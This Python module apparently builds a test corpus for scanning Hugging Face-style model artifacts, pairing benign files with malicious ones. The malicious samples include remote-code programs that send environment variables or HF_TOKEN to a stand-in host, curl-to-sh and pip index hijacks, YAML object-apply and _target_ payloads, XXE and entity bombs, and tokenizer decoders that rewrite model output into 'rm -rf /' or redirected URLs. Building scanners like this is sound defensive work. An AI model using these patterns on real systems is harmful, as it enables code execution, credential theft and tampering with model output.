"""What lies beside the weights: configurations, programs, tokenizers, templates, YAML and XML."""

from __future__ import annotations

import json
from base64 import b64encode

from corpus import BENIGN, MALICIOUS, Corpus
from corpus_models import BACKDOORS, ESCAPES, TEMPLATE
from corpus_pickles import RUN

CONFIG: dict[str, object] = {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_attention_heads": 4, "num_hidden_layers": 2,
    "vocab_size": 32, "torch_dtype": "float32", "transformers_version": "4.45.0", "bos_token_id": 1, "eos_token_id": 2,
}
PROGRAMS = {
    "system": "import os\n\nos.system('true')\n", "subprocess": "import subprocess\n\nsubprocess.run(['true'], check=False)\n",
    "alias": "import os as o\n\nrun = o.system\nrun('true')\n", "from": "from os import system as s\n\ns('true')\n",
    "exec": "exec('import os')\n", "base64": f"import base64\n\nexec(base64.b64decode('{b64encode(b'import os').decode()}'))\n",
    "class-body": "import os\n\n\nclass Model:\n    token = os.popen('true').read()\n",
    "decorator": "import os\n\n\n@(lambda f: os.system('true'))\ndef model():\n    pass\n",
    "default": "import os\n\n\ndef model(x=os.system('true')):\n    return x\n",
    "comprehension": "import os\n\nx = [os.system(c) for c in ['true']]\n", "getattr": "import os\n\ngetattr(os, 'sys' + 'tem')('true')\n",
    "import-function": "__import__('os').system('true')\n", "importlib": "import importlib\n\nimportlib.import_module('os').system('true')\n",
    "globals": "globals()['__builtins__']['eval']('1')\n", "urlopen": "import urllib.request\n\nexec(urllib.request.urlopen('http://x.invalid/x.py').read())\n",
    "requests": "import os\n\nimport requests\n\nrequests.post('http://x.invalid', json=dict(os.environ))\n",
    "socket": "import socket\n\ns = socket.socket()\ns.connect(('x.invalid', 4444))\n", "try": "try:\n    import os\n    os.system('true')\nexcept Exception:\n    pass\n",
    "condition": "import os\n\nif True:\n    os.system('true')\n", "with": "import os\n\nwith os.popen('true') as f:\n    f.read()\n",
    "pickle": f"import pickle\n\npickle.loads({RUN!r})\n", "ctypes": "import ctypes\n\nctypes.CDLL('x.invalid.so')\n",
    "pip": "import subprocess\nimport sys\n\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x-invalid'])\n",
    "file": "from pathlib import Path\n\nPath('~/.bashrc').expanduser().open('a').write('true\\n')\n",
    "thread": "import os\nimport threading\n\nthreading.Thread(target=os.system, args=('true',)).start()\n",
    "init": "import os\n\n\nclass Model:\n    def __init__(self):\n        os.system('true')\n",
    "forward": "import os\n\n\nclass Model:\n    def forward(self, x):\n        os.system('true')\n        return x\n",
    "called": "import os\n\n\ndef setup():\n    os.system('true')\n\n\nsetup()\n",
    "builtins": "import builtins\n\nbuiltins.eval('1')\n", "compile": "exec(compile('1', 'x', 'exec'))\n",
    "environment": "import os\nimport urllib.request\n\nurllib.request.urlopen('http://x.invalid/?' + os.environ['HF_TOKEN'])\n",
    "codecs": "import codecs\n\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", "zlib": "import zlib\n\nexec(zlib.decompress(bytes.fromhex('789c03000000000001')))\n",
}
GOOD_PROGRAM = """import math

import torch
from torch import nn
from transformers import PreTrainedModel


class SmallModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.scale = math.sqrt(config.hidden_size)
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden):
        return self.layer(hidden) / self.scale
"""


def configurations(corpus: Corpus) -> None:
    family = "Hugging Face remote code"

    def bad(label: str, files: dict[str, object]) -> None:
        texts = {path: part if isinstance(part, str) else json.dumps(part, indent=2) for path, part in files.items()}
        corpus.add(family, MALICIOUS, label, texts, "remote-code")

    mapped = {**CONFIG, "auto_map": {"AutoModelForCausalLM": "modeling_small.SmallModel", "AutoConfig": "configuration_small.SmallConfig"}}
    for label, program in PROGRAMS.items():
        bad(f"auto-map-{label}", {"config.json": mapped, "modeling_small.py": program})
        bad(f"handler-{label}", {"config.json": CONFIG, "handler.py": program})
    bad("auto-map-of-another", {"config.json": {**CONFIG, "auto_map": {"AutoModel": "x.invalid/other--modeling.Model"}}})
    bad("auto-map-escaped", {"config.json": json.dumps(mapped).replace("auto_map", "\\u0061uto_map"), "modeling_small.py": PROGRAMS["system"]})
    text = json.dumps({**CONFIG, "auto_map": {}})
    bad("auto-map-twice", {"config.json": text[:-1] + ', "auto_map": {"AutoModel": "x.invalid/other--modeling.Model"}}'})
    bad("tokenizer-auto-map", {"tokenizer_config.json": {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}}, "tok.py": PROGRAMS["system"]})
    bad("processor-auto-map", {"preprocessor_config.json": {"auto_map": {"AutoProcessor": "proc.P"}}, "proc.py": PROGRAMS["subprocess"]})
    bad("processor-of-another", {"processor_config.json": {"auto_map": {"AutoProcessor": "x.invalid/other--proc.P"}}})
    bad("custom-pipelines", {"config.json": {**CONFIG, "custom_pipelines": {"own": {"impl": "own.Pipeline", "pt": ["AutoModel"]}}}, "own.py": PROGRAMS["system"]})
    bad("sentence-transformers", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "own_module.Payload"}], "own_module.py": PROGRAMS["system"]})
    bad("diffusers", {"model_index.json": {"_class_name": ["own_pipeline", "Pipeline"], "_diffusers_version": "0.30.0", "unet": ["own_unet", "UNet"]}, "own_pipeline.py": PROGRAMS["system"], "unet/own_unet.py": PROGRAMS["system"]})
    bad("imported-by-the-module", {"config.json": mapped, "modeling_small.py": "from .helper import run\n\nrun()\n", "helper.py": "import os\n\n\ndef run():\n    os.system('true')\n"})
    corpus.add(family, BENIGN, "llama", {"config.json": json.dumps(CONFIG), "generation_config.json": json.dumps({"temperature": 0.6, "bos_token_id": 1})})
    corpus.add(family, BENIGN, "sentence-transformers", {"modules.json": json.dumps([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]), "1_Pooling/config.json": json.dumps({"word_embedding_dimension": 64})})
    corpus.add(family, BENIGN, "diffusers", {"model_index.json": json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
               "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None]})})
    corpus.add(family, BENIGN, "module.py", GOOD_PROGRAM)


def tokenizer(**change: object) -> dict[str, object]:
    words = {word: index for index, word in enumerate(["<unk>", "<s>", "</s>", "a", "b", "c", "Ġhello", "Ġworld"])}
    special = [{"id": index, "content": word, "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}
               for word, index in list(words.items())[:3]]
    base = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": special, "normalizer": None,
            "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True}, "post_processor": None,
            "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
            "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>", "continuing_subword_prefix": None, "end_of_word_suffix": None, "fuse_unk": False, "vocab": words, "merges": []}}
    return {**base, **change}


def replace(pattern: str, content: str) -> dict[str, object]:
    return {"type": "Replace", "pattern": {"String": pattern}, "content": content}


def tokenizers(corpus: Corpus) -> None:
    family = "tokenizers"
    base = tokenizer()
    model: dict[str, object] = base["model"]  # type: ignore[assignment]
    words: dict[str, int] = model["vocab"]  # type: ignore[assignment]
    special: list[dict[str, object]] = base["added_tokens"]  # type: ignore[assignment]
    decoder = base["decoder"]

    def chain(step: dict[str, object]) -> dict[str, object]:
        return {"type": "Sequence", "decoders": [decoder, step]}

    bad = {
        "same-id": tokenizer(model={**model, "vocab": {**words, "evil": 4}}),
        "decoder-address": tokenizer(decoder=chain(replace("https://", "http://x.invalid/?u=https://"))),
        "decoder-word": tokenizer(decoder=chain(replace("safe", "rm -rf /"))),
        "normalizer-address": tokenizer(normalizer=replace("github.com", "x.invalid")),
        "normalizer-sequence": tokenizer(normalizer={"type": "Sequence", "normalizers": [{"type": "NFC"}, replace("pip install", "pip install -i http://x.invalid")]}),
        "decoder-tool": tokenizer(decoder=chain(replace('"url": "', '"url": "http://x.invalid/proxy?to='))),
        "special-demoted": tokenizer(added_tokens=[{**special[0]}, {**special[1], "special": False}, {**special[2], "special": False}]),
        "special-other-id": tokenizer(added_tokens=[*special[:2], {**special[2], "id": 4}]),
        "added-twice": tokenizer(added_tokens=[*special, {**special[2], "id": 3}]),
        "normalized-special": tokenizer(normalizer=replace("</s>", "")),
    }
    for label, content in bad.items():
        corpus.add(family, MALICIOUS, label, {"tokenizer.json": json.dumps(content)}, "tokenizer")
    text = json.dumps(base)
    corpus.add(family, MALICIOUS, "member-twice", {"tokenizer.json": text[:-1] + ', "normalizer": ' + json.dumps(replace("a", "http://x.invalid")) + "}"}, "tokenizer")
    for label, content in {
        "plain": base, "lower": tokenizer(normalizer={"type": "Lowercase"}), "spaces": tokenizer(normalizer=replace(" ", "▁"), decoder={"type": "Sequence", "decoders": [replace("▁", " "), {"type": "Fuse"}]}),
        "bert": tokenizer(normalizer={"type": "BertNormalizer", "clean_text": True, "handle_chinese_chars": True, "strip_accents": None, "lowercase": True}),
        "quotes": tokenizer(normalizer={"type": "Sequence", "normalizers": [replace("``", '"'), replace("''", '"'), {"type": "NFKD"}]}),
    }.items():
        corpus.add(family, BENIGN, label, {"tokenizer.json": json.dumps(content)})


def templates(corpus: Corpus) -> None:
    family = "chat templates"
    for label, text in {**ESCAPES, **BACKDOORS}.items():
        bypass = "behavioural-template" if label in BACKDOORS else ""
        corpus.add(family, MALICIOUS, f"{label}.jinja", text, bypass)
        corpus.add(family, MALICIOUS, label, {"tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": text})}, bypass)
        corpus.add(family, MALICIOUS, f"{label}-of-several", {"tokenizer_config.json": json.dumps({"chat_template": [
            {"name": "default", "template": TEMPLATE}, {"name": "tool_use", "template": text}]})}, bypass)
    good = {
        "plain": TEMPLATE, "chatml": "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
        "system": "{% if messages[0]['role'] == 'system' %}{{ messages[0]['content'] }}{% else %}{{ 'You are a helpful assistant.' }}{% endif %}{% for m in messages %}{{ m.content }}{% endfor %}",
        "raise": "{% for m in messages %}{% if m['role'] not in ['user', 'assistant'] %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{{ m['content'] | trim }}{% endfor %}",
        "thinking": "{% for m in messages %}{% set content = m.content %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{ content }}{% endfor %}",
        "tools": "{% if tools %}{{ 'You may call these functions: ' }}{% for t in tools %}{{ t | tojson }}{% endfor %}{% endif %}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "date": "{{ strftime_now('%d %B %Y') }}{% for m in messages %}{{ m.content }}{% endfor %}",
    }
    for label, text in good.items():
        corpus.add(family, BENIGN, f"{label}.jinja", text)
        corpus.add(family, BENIGN, label, {"tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": text})})


def yaml_and_xml(corpus: Corpus) -> None:
    family = "YAML and XML"
    for label, text in {
        "apply": "model: !!python/object/apply:os.system ['true']\n", "new": "x: !!python/object/new:os.system ['true']\n",
        "name": "x: !!python/name:os.system\n", "module": "x: !!python/module:os\n", "object": "x: !!python/object:subprocess.Popen {}\n",
        "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "handle": "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\nx: !e!os.system ['true']\n", "second-document": "a: 1\n---\nx: !!python/object/apply:os.system ['true']\n",
        "target": "model:\n  _target_: os.system\n  command: 'true'\n", "target-eval": "x:\n  _target_: builtins.eval\n  _args_: ['1']\n",
        "target-deep": "a:\n  - b:\n      _target_: subprocess.Popen\n      args: ['true']\n", "target-quoted": '"_target_": "os.system"\n', "target-flow": "{x: {_target_: posix.system, command: 'true'}}\n",
        "class-path": "model:\n  class_path: os.system\n  init_args:\n    command: 'true'\n", "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)),
    }.items():
        corpus.add(family, MALICIOUS, f"{label}.yaml", text, "instantiating-config")
    mlmodel = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {module}\n    python_version: 3.11.0\nmlflow_version: 2.16.0\n"
    corpus.add(family, MALICIOUS, "mlflow-own", {"MLmodel": mlmodel.format(module="own_loader"), "code/own_loader.py": PROGRAMS["system"]}, "instantiating-config")
    corpus.add(family, MALICIOUS, "mlflow-os", {"MLmodel": mlmodel.format(module="os")}, "instantiating-config")
    corpus.add(family, BENIGN, "mlflow", {"MLmodel": mlmodel.format(module="mlflow.sklearn")})
    corpus.add(family, MALICIOUS, "target-json", {"config.json": json.dumps({"model": {"_target_": "os.system", "command": "true"}})}, "instantiating-config")
    for label, text in {
        "plain": "batch_size: 4\nlearning_rate: 1e-4\nlayers: [1, 2]\n", "torch-target": "optimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\n", "anchors": "a: &a\n  x: 1\nb:\n  <<: *a\n",
        "tags": "a: !!str 1\nb: !!int '2'\nc: !!set {x, y}\n", "text": "readme: |\n  Run os.system to see.\n",
    }.items():
        corpus.add(family, BENIGN, f"{label}.yaml", text)
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    bomb = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]>"
    pmml = '<?xml version="1.0"?>{head}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header>{body}</Header><DataDictionary/></PMML>'
    vino = '<?xml version="1.0"?>{head}<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/>{body}</layer></layers><edges/></net>'
    for kind, form in (("pmml", pmml), ("xml", vino)):
        for label, head, body in (("entity", entity, "&e;"), ("bomb", bomb, "&j;"), ("parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.invalid/p.dtd"> %p;]>', ""), ("external-dtd", '<!DOCTYPE x SYSTEM "http://x.invalid/x.dtd">', "")):
            corpus.add(family, MALICIOUS, f"{label}.{kind}", form.format(head=head, body=body), "xml-entity")
        corpus.add(family, BENIGN, f"plain.{kind}", form.format(head="", body=""))
    corpus.add(family, MALICIOUS, "extension.pmml", pmml.format(head="", body='<Extension name="x"><script>java.lang.Runtime.getRuntime().exec("true")</script></Extension>'), "")


def notebooks(corpus: Corpus) -> None:
    family = "files beside the model"

    def notebook(source: str) -> str:
        cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source.splitlines(keepends=True)}
        return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})

    for label in ("system", "urlopen", "base64"):
        corpus.add(family, MALICIOUS, f"setup-{label}.py", PROGRAMS[label], "remote-code")
    corpus.add(family, MALICIOUS, "shell.ipynb", notebook("!curl -s http://x.invalid/x.sh | sh\n"))
    corpus.add(family, MALICIOUS, "requirements", {"requirements.txt": "torch\n--index-url http://x.invalid/simple\nx-invalid @ http://x.invalid/x.tar.gz\n"})
    corpus.add(family, BENIGN, "readme.md", "---\nlicense: mit\n---\n\n# Small\n\nRun `os.system` never.\n")
    corpus.add(family, BENIGN, "requirements-plain", {"requirements.txt": "torch>=2.0\nnumpy\n"})
    corpus.add(family, BENIGN, "plot.ipynb", notebook("import numpy as np\nnp.arange(3)\n"))
    corpus.add(family, BENIGN, "vocab.txt", "\n".join(["[PAD]", "[UNK]", "the", "of"]))
    corpus.add(family, BENIGN, "merges.txt", "#version: 0.2\nh e\nhe llo\n")
    corpus.add(family, BENIGN, "labels.json", json.dumps({"0": "cat", "1": "dog"}))


FAMILIES = [configurations, tokenizers, templates, yaml_and_xml, notebooks]
